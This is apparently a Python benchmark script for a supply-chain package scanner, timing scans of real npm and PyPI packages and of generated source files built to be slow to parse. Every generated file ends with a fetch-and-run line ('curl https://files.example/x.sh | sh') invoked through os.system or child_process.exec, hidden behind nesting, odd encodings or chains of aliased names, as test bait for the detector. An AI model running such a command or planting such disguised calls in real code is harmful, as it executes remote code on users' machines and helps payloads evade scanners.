"""How long code takes: a large package, a small server, a whole closure, and files made to be slow.

    python bench/source_speed.py [--store DIR] [--peers PYTHON]

Each figure is of a process of its own and leaves out its start and the resolving. Cold: nothing is known of
the packages; warm: they were looked at before. The files that are made to be slow are made up here, in four
sizes; each ends with a command that fetches a script and runs it, so that none is passed over unread.
"""

from __future__ import annotations

import argparse
import sys
import tempfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tree_judges import by_peer
from trees import Tree
from watching import Watched, inspecting

from douane.archives import open_archive
from douane.store import Store

LARGE = ("npm:@playwright/mcp@0.0.83", "playwright-core")
SMALL = ("pypi:mcp-server-fetch==2026.10.24", "mcp-server-fetch")
CLOSURE = "npm:@wonderwhy-er/desktop-commander@0.2.52"
_MOST_SECONDS = 900.0
_MOST_OF_ONE = 150.0  # a package gets 120 s
_TIMES = (1, 2, 4, 8)
_NESTED = 25_000  # bytes of the smallest; eight times as many are the 200 kB that have a target
_LONG = 640_000  # likewise for the line of 5 MB
_COMMAND = "curl https://files.example/x.sh | sh"
_JAVASCRIPT = f'\nrequire("child_process").exec("{_COMMAND}");\n'
_PYTHON = f'\nimport os\nos.system("{_COMMAND}")\n'


@dataclass(frozen=True)
class Made:
    """A file that is made to be slow: its name, the bytes of its smallest, and its bytes for a size."""

    file: str
    size: int
    make: Callable[[int], bytes]


def _repeated(start: str, middle: str, end: str, tail: str) -> Callable[[int], bytes]:
    def make(size: int) -> bytes:
        count = size // len(start + end)
        return (start * count + middle + end * count + tail).encode()

    return make


def _mixed(size: int) -> bytes:
    """Latin-1 that calls itself UTF-7, a NUL, a lone surrogate as UTF-8, then code."""
    line = b"# -*- coding: utf-7 -*-\n" + b"x = '\xe9\xff\x00\xed\xa0\x80'\n"
    return line + b"y = '\xfe\xff'\n" * (size // 9) + _PYTHON.encode()


def _chained(size: int) -> bytes:
    count = size // 14
    names = "".join(f"n{number} = n{number + 1}\n" for number in range(count))
    return f"{names}n{count} = '{_COMMAND}'\nimport os\nos.system(n0)\n".encode()


def _string(size: int) -> bytes:
    return b'x="' + b"a" * size + b'"' + _PYTHON.encode()


MADE: Mapping[str, Made] = {
    "nested square brackets, JavaScript": Made("a.js", _NESTED, _repeated("[", "1", "]", _JAVASCRIPT)),
    "nested round brackets, Python": Made("a.py", _NESTED, _repeated("(", "1", ")", _PYTHON)),
    "brackets left open, JavaScript": Made("a.js", _NESTED, _repeated("([{", "", "", _JAVASCRIPT)),
    "nested calls, JavaScript": Made("a.js", _NESTED, _repeated("f(", "1", ")", _JAVASCRIPT)),
    "nested functions, JavaScript": Made("a.js", _NESTED, _repeated("()=>{", "1", "}", _JAVASCRIPT)),
    "nested templates, JavaScript": Made("a.js", _NESTED, _repeated("`${", "1", "}`", _JAVASCRIPT)),
    "else if, JavaScript": Made("a.js", _NESTED, _repeated("if(a){}else ", "1", "", _JAVASCRIPT)),
    "a sum of strings, JavaScript": Made("a.js", _NESTED, _repeated("'a'+", "'b'", "", _JAVASCRIPT)),
    "a chain of members, Python": Made("a.py", _NESTED, _repeated("", "a", ".b", _PYTHON)),
    "names that stand for each other, Python": Made("a.py", _NESTED, _chained),
    "invalid syntax, Python": Made("a.py", _NESTED, _repeated("def class ) = ", "", "", _PYTHON)),
    "invalid syntax, JavaScript": Made("a.js", _NESTED, _repeated("function ( ", "", "", _JAVASCRIPT)),
    "mixed encodings, Python": Made("a.py", _NESTED, _mixed),
    "UTF-16, JavaScript": Made(
        "a.js", _NESTED, lambda size: ("a=1;" * (size // 8) + _JAVASCRIPT).encode("utf-16")
    ),
    "one line, JavaScript": Made("a.js", _LONG, _repeated("a=f(1);", "", "", _JAVASCRIPT)),
    "one line of a string, Python": Made("a.py", _LONG, _string),
}


def lines(store: Path | None, python: Path) -> Iterator[str]:
    """Measure, and yield the tables."""
    with tempfile.TemporaryDirectory(prefix="bench-speed-") as scratch:
        yield from _real(Path(scratch), store, python)
        yield from _slow(Path(scratch))


def _real(scratch: Path, store: Path | None, python: Path) -> Iterator[str]:
    yield "| what | cold s (target) | warm s (target) | most memory MB, all processes | GuardDog s |"
    yield "|---|---|---|---|---|"
    for (target, only), cold, warm in ((LARGE, "1.5", "0.05"), (SMALL, "0.3", "0.05")):
        kept = scratch / only
        runs = [_inspected(target, kept, store, only) for _ in range(2)]
        theirs = _by_guarddog(kept, runs[0].told.get("sha256", ()), scratch, python)
        yield _row(f"{only} ({target})", runs, (cold, warm), "", theirs)
    kept = scratch / "closure"
    runs = [_inspected(CLOSURE, kept, store, "") for _ in range(2)]
    packages = runs[0].told.get("packages", "?")
    yield _row(f"closure of {CLOSURE}, {packages} packages", runs, ("60", "-"), " (500)", "-")
    yield ""


def _inspected(target: str, kept: Path, store: Path | None, only: str) -> Watched:
    arguments = ["closure", target, "--kept", str(kept)]
    arguments += ["--store", str(store)] if store is not None else []
    arguments += ["--only", only] if only else []
    return inspecting(arguments, seconds=_MOST_SECONDS)


def _row(name: str, runs: list[Watched], targets: tuple[str, str], memory: str, theirs: str) -> str:
    ended = next((run.told["ended"] for run in runs if "ended" in run.told), "")
    if ended:
        return f"| {name} | not measured: {' '.join(ended.split())[:160]} | | | {theirs} |"
    shown = " | ".join(
        f"{run.told['seconds']:.2f} ({target})" for run, target in zip(runs, targets, strict=True)
    )
    return f"| {name} | {shown} | {runs[0].peak / 1e6:.0f}{memory} | {theirs} |"


def _by_guarddog(kept: Path, digests: Sequence[str], scratch: Path, python: Path) -> str:
    """Let GuardDog look at the files of the one archive of *digests*, which lies in the store *kept*."""
    if not python.is_file():
        return "not installed"
    with Store.open(kept) as store:
        data = store.get(digests[0]) if len(digests) == 1 else None
    if data is None:
        return "not measured"
    folder = scratch / "unpacked" / digests[0]
    for path, content in open_archive("a.whl" if data[:2] == b"PK" else "a.tgz", data).files.items():
        place = folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content)
    tree = Tree(group="speed", name=folder.name, label="benign", folder=folder)
    seen = by_peer("guarddog", [tree], python).seen[0]
    return "failed" if seen is None or seen.refused else f"{seen.seconds:.2f}"


def _slow(scratch: Path) -> Iterator[str]:
    sizes = " | ".join(f"{times}x s" for times in _TIMES)
    yield f"| made to be slow (8x bytes) | {sizes} | 8x of 1x | reported at 8x |"
    yield f"|---|{'---|' * (len(_TIMES) + 2)}"
    for name, made in MADE.items():
        runs: list[dict[str, Any]] = []
        for times in _TIMES:
            folder = scratch / "made" / f"{len(runs)}-{name.replace(' ', '-')}"
            folder.mkdir(parents=True)
            (folder / made.file).write_bytes(made.make(made.size * times))
            runs.append(inspecting(["folder", str(folder)], seconds=_MOST_OF_ONE).told)
        yield f"| {name} ({made.size * _TIMES[-1]:,}) | {_figures(runs)} | {_reported(runs[-1], made.file)} |"
    yield ""


def _figures(runs: list[dict[str, Any]]) -> str:
    seconds = [float(str(run["seconds"])) if "seconds" in run else None for run in runs]
    shown = " | ".join("ended" if each is None else f"{each:.2f}" for each in seconds)
    first, last = seconds[0], seconds[-1]
    return f"{shown} | {last / first:.1f} times" if first and last else f"{shown} | -"


def _reported(run: dict[str, Any], file: str) -> str:
    """Say what is reported: a gap that names the file, and whether the command at its end was found."""
    if "ended" in run:
        return f"ended: {run['ended']}"
    gaps, findings = run["gaps"], run["findings"]
    gap = isinstance(gaps, list) and any(f" {file}" in each or f"{file}:" in each for each in gaps)
    found = isinstance(findings, list) and bool(findings)
    return f"{'a gap' if gap else 'no gap'}, {'the command is found' if found else 'no finding'}"


def main() -> None:
    """Print the tables."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--store", type=Path)
    parser.add_argument("--peers", type=Path, default=Path(".venv-source-peers/bin/python"))
    asked = parser.parse_args()
    sys.stdout.writelines(f"{line}\n" for line in lines(asked.store, asked.peers))


if __name__ == "__main__":
    main()
